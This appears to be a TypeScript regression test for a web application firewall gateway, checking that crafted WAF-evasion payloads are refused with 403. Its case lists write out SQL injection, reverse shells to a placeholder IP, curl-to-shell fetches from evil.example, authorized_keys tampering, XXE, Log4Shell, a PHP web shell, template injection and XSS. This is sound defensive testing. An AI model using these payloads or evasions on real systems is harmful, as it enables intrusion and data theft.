/**
 * Audit 12 (round 5 of the WAF evasion audit): the session-9 relaxations of the API profile, against the `waf`
 * policy (CRS v4.28.0 from ../shared, PL1, blocking) through the real gateway in front of a recording upstream,
 * over HTTP/1.1 and HTTP/2. Targets: spreadsheet formulas (family `y`), survey piped text `${e://Field/x}` (family
 * `v`), Zapier `{{1__field}}` and n8n `{{ $json.x }}` template chains, merge tags with `$`/`.` prefixes, GraphQL-over-GET
 * variables in the prose view, filter expressions (`not <field>`, spatial predicates, date arithmetic, family `e`
 * now waiving 90109), code-block nodes of rich-text JSON and language-named code fields, XML data documents
 * (`inertXmlDocument`, family `h`), `%ile` words and dependency manifests as plain arguments, shell-quote removal
 * in command words. Every technique here is one the gateway stops: the request is refused with 403 and the
 * upstream never sees it. The techniques that got through are in the audit's report, not here. The `/crs/*`
 * (PL1) and `/crs2/*` (PL2) routes run the plain CRS profile: the control there shows CRS refuses the payloads
 * this audit built its evasions from.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import http2 from 'node:http2';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { builtinPolicies } from '../../src/policies/index.ts';
import { policy as waf } from '../../src/policies/waf/policy.ts';
import {
  rawRequest,
  startGateway,
  startUpstream,
  statuses,
  type TestGateway,
  type TestUpstream,
} from '../helpers/gateway.ts';

const CRS = '/work/shared/crs/v4.28.0';
const RULES = `{ setup: "${join(CRS, 'crs-setup.conf.example')}", include: ["${join(CRS, 'rules')}"] }`;

const J = (v: unknown): string => JSON.stringify(v);
const E = encodeURIComponent;
// Survey piped-text tags (Qualtrics' `${e://Field/nps}`).
const NPS = '$' + '{e://Field/nps}';
const FA = '$' + '{e://Field/a}';

/** A raw HTTP/1.1 request (Host, a browser User-Agent, Accept, Content-Length for a body, close). */
function req(method: string, target: string, headers: [string, string][], body = ''): Buffer {
  const b = Buffer.from(body, 'utf8');
  const lines = [
    `${method} ${target} HTTP/1.1`,
    'Host: api.example.com',
    'User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
    'Accept: application/json',
    ...headers.map(([k, v]) => `${k}: ${v}`),
  ];
  if (b.length > 0) lines.push(`Content-Length: ${b.length}`);
  lines.push('Connection: close');
  return Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1'), b]);
}

const JSON_CT: [string, string][] = [['Content-Type', 'application/json']];
/** A JSON document posted to `path` (the API-profile route by default). */
const doc = (value: unknown, path = '/x'): Buffer => req('POST', path, JSON_CT, J(value));
/** A JSON body `{ [field]: value }` posted to the API-profile route. */
const json = (field: string, value: string): Buffer => doc({ [field]: value });
/** A URL-encoded form. */
const form = (body: string): Buffer =>
  req('POST', '/x', [['Content-Type', 'application/x-www-form-urlencoded']], body);
const get = (target: string): Buffer => req('GET', target, []);
/** A GraphQL query sent over GET with its variables. */
const gqlGet = (variables: unknown): string =>
  `/graphql?query=${E('query Q($input: In) { q(input: $input) { id } }')}&variables=${E(J(variables))}`;

// An XML data document (an Apple plist) with a document type by public identifier.
const plist = (dtd: string): string =>
  `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "${dtd}"><plist version="1.0"><dict><key>a</key><string>b</string></dict></plist>`;

interface Case {
  readonly name: string;
  readonly build: () => Buffer;
}

/** Evasions the gateway refuses (API profile, route `/*`). */
const CASES: readonly Case[] = [
  // Filter expressions (family e): the tokenizer reads `\'` as an escaped quote, SQL (PostgreSQL, SQLite,
  // SQL Server, and MySQL after a comment) does not; what the other SQL rules see is still refused.
  {
    name: "filter: `\\'` hides UNION SELECT … FROM in a literal (942270)",
    build: () => json('filter', "name = 'x\\' union select password from users --'"),
  },
  {
    name: "filter: `\\'` hides a stacked DROP TABLE in a literal (942350)",
    build: () => json('filter', "id = 'x\\' ; drop table users --'"),
  },
  {
    name: "filter: `\\'` hides a pg_sleep sub-select in a literal (942151/942160)",
    build: () => json('filter', "owner = 'x\\' or (select count(*) from pg_sleep(5)) > 0 or owner = 'y'"),
  },
  {
    name: "filter: `\\'` hides UNION SELECT NULL,password FROM … WHERE '1' = '1'",
    build: () => json('filter', "owner = 'x\\' union select null,password from users where '1' = '1'"),
  },
  {
    name: 'filter: a negated boolean field OR-ed with itself (tautology)',
    build: () => json('filter', "owner = 'bob' or trashed or not trashed"),
  },
  {
    name: "quoted field name: break-out, stacked DROP, comment, `\\''` to balance the tokenizer",
    build: () => json('name', "'; drop table users -- \\'' = 1"),
  },
  {
    name: "quoted field name: break-out, SLEEP(5), comment, `\\''`",
    build: () => json('name', "' or sleep(5) -- \\'' = 1"),
  },
  {
    name: "quoted field name: break-out, UNION SELECT … FROM users, comment, `\\''`",
    build: () => json('name', "' union select username,password from users -- \\'' = 1"),
  },
  {
    name: "value then break-out tautology, comment, `\\''` (90109)",
    build: () => json('name', "x' or 1=1 -- \\'' = 1"),
  },
  {
    name: 'filter: a left-hand call chain int4(textin(xml_out(query_to_xml(…)))) reading a table (942151)',
    build: () =>
      json('filter', "int4(textin(xml_out(query_to_xml('select password from users', 't', 't', '')))) = 1"),
  },
  {
    name: "filter: a spatial predicate standing alone, BBOX(geom, lo_import('/etc/passwd'))",
    build: () => get(`/x?filter=${E("BBOX(geom, lo_import('/etc/passwd'))")}`),
  },
  {
    name: 'filter: date arithmetic followed by a query_to_xml error oracle',
    build: () =>
      json(
        'filter',
        "last_seen > now() - interval '30 days' and int4(textin(xml_out(query_to_xml('select password from users', 't', 't', '')))) = 1",
      ),
  },
  // Spreadsheet formulas (family y).
  {
    name: 'formula: PostgreSQL error-based query_to_xml(CONCAT(CHR(…))) cast to int',
    build: () =>
      json(
        'formula',
        '=CAST(CAST(query_to_xml(CONCAT(CHR(115),CHR(101)),true,true,CHR(32)) AS text) AS int)',
      ),
  },
  {
    name: "formula: `'…'!B7` sheet name as a MySQL string tautology, query parameter",
    build: () => get(`/x?name=${E("=A1&' - 0 - '!B7")}`),
  },
  {
    name: "formula: `'…'!B7` sheet name as a MySQL string tautology, form field",
    build: () => form(`name=${E("=A1&' - 0 - '!B7")}`),
  },
  {
    name: 'formula: MySQL error-based GTID_SUBSET(CONCAT(0x7e,USER())), query parameter',
    build: () => get(`/x?price=${E('=GTID_SUBSET(CONCAT(0x7e,USER(),0x7e),1)')}`),
  },
  {
    name: "formula: `'…'!B7` string tautology in GraphQL-over-GET variables",
    build: () => get(gqlGet({ input: { name: "=A1&' - 0 - '!B7" } })),
  },
  // XML data documents (family h).
  {
    name: 'XML document: external DTD on the cloud metadata address',
    build: () => json('profile', plist('http://169.254.169.254/latest/meta-data/iam/')),
  },
  {
    name: 'XML document: external DTD on an attacker host, query parameter',
    build: () => get(`/x?profile=${E(plist('http://evil.example/x.dtd'))}`),
  },
  // Survey piped text (family v).
  {
    name: 'piped text: process substitution fetching a script into a shell',
    build: () => json('text', `What is ${NPS} <(curl -s evil.example/x|sh)`),
  },
  {
    name: 'piped text: process substitution >(id), query parameter',
    build: () => get(`/x?text=${E(`${FA} >(id)`)}`),
  },
  {
    name: 'piped text: process substitution >(id) in GraphQL-over-GET variables',
    build: () => get(gqlGet({ input: { text: `${FA} >(id)` } })),
  },
  {
    name: 'piped text: process substitution with a /dev/tcp reverse shell',
    build: () => json('text', `${NPS} >(bash -i >& /dev/tcp/203.0.113.9/4444 0>&1)`),
  },
  {
    name: 'piped text: process substitution with netcat -e',
    build: () => json('text', `${NPS} <(nc 203.0.113.9 4444 -e /bin/sh)`),
  },
  {
    name: 'piped text: process substitution appending to authorized_keys',
    build: () => json('text', `${NPS} >(tee -a ~/.ssh/authorized_keys)`),
  },
  {
    name: 'piped text: process substitution running python3 -c',
    build: () => json('text', `\${e://Field/nps} >(python3 -c "import os;os.system('id')")`),
  },
  // Code fields and code-block nodes.
  {
    name: 'code block node: path traversal to /etc/passwd in its text',
    build: () => doc({ type: 'code', text: '../../../../etc/passwd' }),
  },
  {
    name: 'code block node: attribute break-out before an <img onerror>',
    build: () => doc({ type: 'code', text: '"><img src=x onerror=alert(document.domain)>' }),
  },
  {
    name: "code block node: string break-out tautology x' or '1'='1",
    build: () => doc({ type: 'code', text: "x' or '1'='1" }),
  },
  {
    name: 'code block node: cat /etc/passwd',
    build: () => doc({ type: 'code', text: 'cat /etc/passwd' }),
  },
  {
    name: 'code block node: a /dev/tcp reverse shell',
    build: () => doc({ type: 'code', text: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' }),
  },
  {
    name: 'code block node: a Log4Shell lookup',
    build: () => doc({ type: 'code', text: `$\{jndi:ldap://evil.example/a}` }),
  },
  {
    name: 'code block node: a PHP web shell',
    build: () => doc({ type: 'code', text: "<?php system($_GET['c']); ?>" }),
  },
  {
    name: 'jsCode: one line requiring child_process',
    build: () => doc({ parameters: { jsCode: "require('child_process').execSync('id')" } }),
  },
  {
    name: 'latex_source: \\input{/etc/passwd}',
    build: () => doc({ latex_source: '\\documentclass{article}\n\\input{/etc/passwd}' }),
  },
  {
    name: 'code block node: type=code&text=… in a form (no JSON document)',
    build: () => form(`type=code&text=${E('1 union select username,password from users')}`),
  },
  {
    name: 'code block node: UNION SELECT in GraphQL-over-GET variables',
    build: () =>
      get(gqlGet({ input: { type: 'code', text: '1 union select username,password from users' } })),
  },
  // Merge tags and template chains.
  {
    name: 'merge tag with a $ prefix: SQL tautology in a filter literal of rich text',
    build: () =>
      json('body', `<p>Hello {{ $json.name | default: "' or '1'='1" }} there friend, welcome aboard.</p>`),
  },
  {
    name: 'n8n chain: $json.x.constructor.constructor("return process")()',
    build: () =>
      json('text', 'New lead {{ $json.x.constructor.constructor("return process")() }} is waiting for you'),
  },
  {
    name: 'n8n chain: `|| this.process`',
    build: () => json('text', 'New lead {{ $json.a || this.process }} is waiting for you today'),
  },
  {
    name: 'Zapier reference walking to __globals__',
    build: () => doc({ input_data: { body: '{{1__a.__init__.__globals__}}' } }),
  },
  {
    name: 'Zapier-like tag opening with a dunder (__import__)',
    build: () => doc({ input_data: { body: '{{__import__("os").popen("id").read()}}' } }),
  },
  // Plain arguments of a command line in prose.
  {
    name: '%ile prose, then ; cat /etc/passwd',
    build: () => json('note', 'Growth: 50th %ile ht; cat /etc/passwd'),
  },
  {
    name: 'dependency manifest prose, then ; curl … | sh',
    build: () =>
      json('message', 'Rebased; resolved the conflict in package.json; curl -s evil.example/x.sh | sh'),
  },
  {
    name: 'shell quotes splitting the command name: ; "c"\'a\'t /etc/passwd',
    build: () => json('note', 'Culture add and more words here; "c"\'a\'t /etc/passwd'),
  },
];

/**
 * The bypasses audit 12 found in the session-9 relaxations, fixed the same session: each is refused now. (Not
 * here: a two-line UNION in a language-named code field such as `jsCode`, the accepted risk of code fields, see
 * docs/security.md.)
 */
const BYPASS_CASES: readonly Case[] = [
  // B1: family e (filterExpressionOnly) now waives 90109; `\'` ends the tokenizer's literal early, not SQL's.
  {
    name: "B1a quoted-field filter shape: ' or 1=1 -- \\'' = 1 (JSON)",
    build: () => json('username', "' or 1=1 -- \\'' = 1"),
  },
  { name: 'B1b same, query parameter', build: () => get(`/x?username=${E("' or 1=1 -- \\'' = 1")}`) },
  {
    name: 'B1c PostgreSQL error-based read of users.password',
    build: () => json('username', "' and 1=cast((select password from users limit 1) as int) -- \\'' = 1"),
  },
  {
    name: 'B1d UNION SELECT version()',
    build: () => json('username', "' union select null,version() -- \\'' = 1"),
  },
  // B2: a `type` of code/codeBlock/code_block/rich_text_preformatted makes every `text` up to 5 levels below a code field.
  {
    name: 'B2a type=code: <img onerror> in text',
    build: () => doc({ type: 'code', text: '<img src=x onerror=alert(document.domain)>' }),
  },
  {
    name: 'B2b type=code at the root: UNION SELECT in user.profile.text',
    build: () =>
      doc({ type: 'code', user: { profile: { text: '1 union select username,password from users' } } }),
  },
  {
    name: 'B2c type=code: $(curl … | bash)',
    build: () => doc({ type: 'code', text: 'a.png $(curl -s evil.example/x.sh | bash)' }),
  },
  {
    name: 'B2d type=code: Jinja2 SSTI',
    build: () => doc({ type: 'code', text: "{{ ''.__class__.__mro__[1].__subclasses__() }}" }),
  },
  {
    name: 'B2e type=code: cloud metadata URL',
    build: () => doc({ type: 'code', text: 'http://169.254.169.254/latest/meta-data/' }),
  },
  {
    name: 'B2f type=code_block beside: extractvalue error-based SQLi in comment.text',
    build: () =>
      doc({
        id: 'x',
        type: 'code_block',
        comment: { text: '1 AND extractvalue(1,concat(0x7e,(select password from users limit 1)))' },
      }),
  },
  {
    name: 'B2g type=code in GraphQL POST variables',
    build: () =>
      doc(
        {
          query: 'mutation M($input: In) { m(input: $input) { id } }',
          variables: { input: { type: 'code', text: '1 union select username,password from users' } },
        },
        '/graphql',
      ),
  },
  {
    name: 'B2h type=code: 1; drop table users',
    build: () => doc({ type: 'code', text: '1; drop table users' }),
  },
  // B3: `filetype` members and the new languages (diff, patch, yaml, dockerfile); language-named compound code fields.
  {
    name: 'B3a filetype=yaml: <script> in content',
    build: () => doc({ filetype: 'yaml', content: '<script>alert(document.domain)</script>' }),
  },
  {
    name: 'B3b language=diff: <script> in code',
    build: () => doc({ language: 'diff', code: '<script>alert(document.domain)</script>' }),
  },
  // B4: family y (spreadsheetFormula) for any JSON field.
  {
    name: "B4a formula: MySQL/MariaDB string tautology =A1&' - 0 - '!B7",
    build: () => json('name', "=A1&' - 0 - '!B7"),
  },
  {
    name: 'B4b formula: MySQL boolean blind',
    build: () => json('price', '=IF(ASCII(SUBSTRING(CURRENT_USER(),1,1))>100,price,0)'),
  },
  {
    name: 'B4c formula: MySQL error-based GTID_SUBSET',
    build: () => json('price', '=GTID_SUBSET(CONCAT(0x7e,USER(),0x7e),1)'),
  },
  // B5: inertXmlDocument (family h) accepts a DOCTYPE with an external DTD URL.
  {
    name: 'B5a XML with an attacker DTD (JSON)',
    build: () => json('profile', plist('http://evil.example/x.dtd')),
  },
  {
    name: 'B5b XML with an attacker DTD (form)',
    build: () => form(`profile=${E(plist('http://evil.example/x.dtd'))}`),
  },
  // B6: family v (pipedTextOnly) waives 932130 whole; process substitution is left.
  { name: 'B6a piped text + >(id) (JSON)', build: () => json('text', `${FA} >(id)`) },
  { name: 'B6b piped text + >(id) (form)', build: () => form(`text=${E(`${FA} >(id)`)}`) },
  {
    name: 'B6c piped text in a sentence + >(id)',
    build: () => json('text', `What is the main reason for your score of ${NPS}? >(id)`),
  },
  // B7 (pre-existing since session 6, not session 9): filter literals with `\'`.
  {
    name: "B7a filter: owner = 'x\\' or 1=1 or owner = 'y' (PL2 catches)",
    build: () => json('filter', "owner = 'x\\' or 1=1 or owner = 'y'"),
  },
  {
    name: 'B7b filter: cast sub-select in a literal (PL2 catches)',
    build: () =>
      get(`/x?filter=${E("name = 'x\\' and 1=cast((select password from users limit 1) as int) --'")}`),
  },
  {
    name: "B7c filter: name = 'x\\' union select password,2 --' (PL1 catches)",
    build: () => json('filter', "name = 'x\\' union select password,2 --'"),
  },
  // B8 (pre-existing): a quoted network tool after a prose separator.
  {
    name: 'B8 ; w"g"et … -O /tmp/x after prose',
    build: () => json('note', 'Culture add and more words here; w"g"et evil.example/x -O /tmp/x'),
  },
];

/** One HTTP/2 request; resolves with the status (or `stream-error`/`session-error`). */
function h2(port: number, headers: http2.OutgoingHttpHeaders, body?: string): Promise<string> {
  return new Promise((resolve) => {
    const session = http2.connect(`https://127.0.0.1:${port}`, { rejectUnauthorized: false });
    session.on('error', () => resolve('session-error'));
    const r = session.request({
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
      accept: 'application/json',
      ...headers,
    });
    r.on('response', (h) => {
      r.resume();
      r.on('end', () => {
        session.close();
        resolve(String(h[':status']));
      });
    });
    r.on('error', () => {
      session.close();
      resolve('stream-error');
    });
    r.end(body);
  });
}

const H2_POST = { ':method': 'POST', ':path': '/x', 'content-type': 'application/json' };

/** The same evasions over HTTP/2 (the value view is the same; the framing is not). */
const H2_CASES: readonly { name: string; headers: http2.OutgoingHttpHeaders; body?: string }[] = [
  {
    name: "filter: `\\'` hides UNION SELECT … FROM in a literal",
    headers: H2_POST,
    body: J({ filter: "name = 'x\\' union select password from users --'" }),
  },
  {
    name: "quoted field name: break-out, SLEEP(5), comment, `\\''`",
    headers: H2_POST,
    body: J({ name: "' or sleep(5) -- \\'' = 1" }),
  },
  {
    name: 'piped text: process substitution >(id), query parameter',
    headers: { ':method': 'GET', ':path': `/x?text=${E(`${FA} >(id)`)}` },
  },
  {
    name: 'XML document: external DTD on the cloud metadata address',
    headers: H2_POST,
    body: J({ profile: plist('http://169.254.169.254/latest/meta-data/iam/') }),
  },
  {
    name: 'code block node: UNION SELECT in GraphQL-over-GET variables',
    headers: {
      ':method': 'GET',
      ':path': gqlGet({ input: { type: 'code', text: '1 union select username,password from users' } }),
    },
  },
];

// The payloads behind this audit's evasions, sent to the plain CRS profile (PL1 `/crs/*`, PL2 `/crs2/*`).
const CRS_REFUSES: readonly [path: string, value: unknown][] = [
  ['/crs/x', { name: "' or 1=1 -- \\'' = 1" }],
  ['/crs/x', { type: 'code', text: '1 union select username,password from users' }],
  ['/crs/x', { type: 'code', text: '<img src=x onerror=alert(document.domain)>' }],
  ['/crs/x', { price: '=IF(ASCII(SUBSTRING(CURRENT_USER(),1,1))>100,price,0)' }],
  ['/crs/x', { name: "=A1&' - 0 - '!B7" }],
  ['/crs/x', { profile: plist('http://evil.example/x.dtd') }],
  ['/crs/x', { text: `${NPS} >(id)` }],
  ['/crs2/x', { filter: "owner = 'x\\' or 1=1 or owner = 'y'" }],
  ['/crs2/x', { filter: "name = 'x\\' and 1=cast((select password from users limit 1) as int) --'" }],
];

describe(
  'audit12: WAF evasions of the session-9 API-profile relaxations the gateway stops',
  { timeout: 60_000 },
  () => {
    let up: TestUpstream;
    let gw: TestGateway;

    before(async () => {
      const dir = mkdtempSync(join(tmpdir(), 'gatehouse-audit12-'));
      execFileSync(
        'openssl',
        [
          'req',
          '-x509',
          '-newkey',
          'ec',
          '-pkeyopt',
          'ec_paramgen_curve:prime256v1',
          '-nodes',
          '-keyout',
          'k.pem',
          '-out',
          'c.pem',
          '-days',
          '1',
          '-subj',
          '/CN=localhost',
        ],
        { cwd: dir, stdio: 'ignore', timeout: 20_000 },
      );
      up = await startUpstream();
      gw = await startGateway(
        `gatehouse: 1
workers: 1
admin: { enabled: false }
logging: { level: warn, access_log: false }
listeners:
  - { name: main, host: 127.0.0.1, port: 0 }
  - name: h2
    host: 127.0.0.1
    port: 0
    tls:
      http2: true
      certificates:
        - { cert: "${join(dir, 'c.pem')}", key: "${join(dir, 'k.pem')}" }
upstreams: [{ name: backend, targets: [{ url: "${up.url}" }] }]
routes:
  - name: crs
    paths: ["/crs/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs }
  - name: crs2
    paths: ["/crs2/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs, paranoia_level: 2 }
  - name: api
    paths: ["/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES} }
`,
        {},
        { policies: [...builtinPolicies, waf] },
      );
    });

    after(async () => {
      await gw?.close();
      await up?.close();
    });

    /** Sends raw bytes; returns every status the gateway answered and the requests the upstream received. */
    async function send(payload: Buffer) {
      const n = up.requests.length;
      const out = await rawRequest(gw.port, payload, 3000);
      return { statuses: statuses(out), out, reached: up.requests.slice(n) };
    }

    test('control: the benign shapes of these relaxations reach the upstream', async () => {
      for (const payload of [
        json('formula', '=IF(B4>0, C4/B4, "")'),
        json('text', `What is the main reason for your score of ${NPS}?`),
        doc({ input_data: { created: '{{1__created_at}}', body: '{{1__body_plain}}' } }),
        json(
          'text',
          ':tada: New lead *{{ $json.body.company }}* ({{ $json.body.seats }} seats) is waiting for you',
        ),
        json('filter', "plan = 'team' AND last_seen > now() - interval '30 days'"),
        json('filter', "BBOX(the_geom, -79.5, 43.6, -79.3, 43.8) AND type = 'school'"),
        get(`/v4/files/search?q=${E("mimeType = 'spreadsheet' and 'me' in owners and not trashed")}`),
        doc({ type: 'codeBlock', content: [{ type: 'text', text: 'npm ci && npm test' }] }),
        json('profile', plist('http://www.apple.com/DTDs/PropertyList-1.0.dtd')),
        json(
          'note',
          'Well-child 4 y/o. Growth: 50th %ile ht, 60th %ile wt. Parent questions re: screen time.',
        ),
      ]) {
        const r = await send(payload);
        assert.deepEqual(r.statuses, [200], r.out);
        assert.equal(r.reached.length, 1);
      }
    });

    test('control: plain CRS (PL1 /crs/*, PL2 /crs2/*) refuses the payloads behind these evasions', async () => {
      for (const [path, value] of CRS_REFUSES) {
        const r = await send(doc(value, path));
        assert.equal(r.statuses.at(-1), 403, `${path} ${J(value)}`);
        assert.equal(r.reached.length, 0, `${path} ${J(value)}`);
      }
    });

    for (const c of [...CASES, ...BYPASS_CASES]) {
      test(`refused: ${c.name}`, async () => {
        const r = await send(c.build());
        assert.equal(r.statuses.at(-1), 403, r.out.slice(0, 400));
        assert.deepEqual(
          r.reached.map((q) => `${q.method} ${q.url}`),
          [],
          'the upstream saw the request',
        );
      });
    }

    test('control over h2: a benign POST reaches the upstream', async () => {
      const n = up.requests.length;
      const port = gw.ports.h2 as number;
      assert.equal(await h2(port, H2_POST, J({ formula: '=SUM(B2:B9)' })), '200');
      assert.equal(up.requests.length, n + 1);
    });

    for (const c of [
      ...H2_CASES,
      { name: 'B1a over h2', headers: H2_POST, body: J({ username: "' or 1=1 -- \\'' = 1" }) },
    ]) {
      test(`refused over h2: ${c.name}`, async () => {
        const n = up.requests.length;
        assert.equal(await h2(gw.ports.h2 as number, c.headers, c.body), '403');
        assert.equal(up.requests.length, n, 'the upstream saw the request');
      });
    }
  },
);
